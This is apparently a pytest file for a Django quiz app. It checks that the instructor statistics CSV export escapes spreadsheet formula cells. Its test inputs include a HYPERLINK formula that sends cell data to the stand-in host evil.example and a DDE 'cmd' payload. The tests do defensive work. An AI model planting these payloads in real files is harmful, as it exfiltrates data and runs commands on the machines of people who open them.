"""The item statistics CSV runs nothing in a spreadsheet: every cell is escaped."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from core.spreadsheet import csv_safe
from quizzes.models import Question, QuizAttempt, Response
from tests.quizzes.factories import make_quiz

pytestmark = [pytest.mark.hostile, pytest.mark.timeout(120)]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_quoted(cell):
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain text", "a=b", 7, -1.5, None])
def test_data_cells_stay_as_they_are(cell):
    assert csv_safe(cell) == cell


def test_option_texts_in_the_statistics_csv_are_escaped(carol_client, alice):
    quiz = make_quiz()
    question = Question.objects.filter(quiz=quiz, type="single").first()
    assert question is not None
    data = dict(question.data)
    data["options"] = [
        {**option, "text": FORMULAS[index % len(FORMULAS)]}
        for index, option in enumerate(data["options"])
    ]
    question.data = data
    question.section = "=cmd()"
    question.save()
    attempt = QuizAttempt.objects.create(
        user=alice, quiz=quiz, question_ids=[question.pk], score=0, max_score=1
    )
    Response.objects.create(
        attempt=attempt,
        question=question,
        response={"option": data["options"][0]["id"]},
        correct=False,
        points=0,
    )
    QuizAttempt.objects.filter(pk=attempt.pk).update(finished_at=attempt.started_at)
    response = carol_client.get(reverse("instructor:statistics_csv", args=[quiz.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells), cells
    assert "'=cmd()" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\uff1d")) and c != "+"]
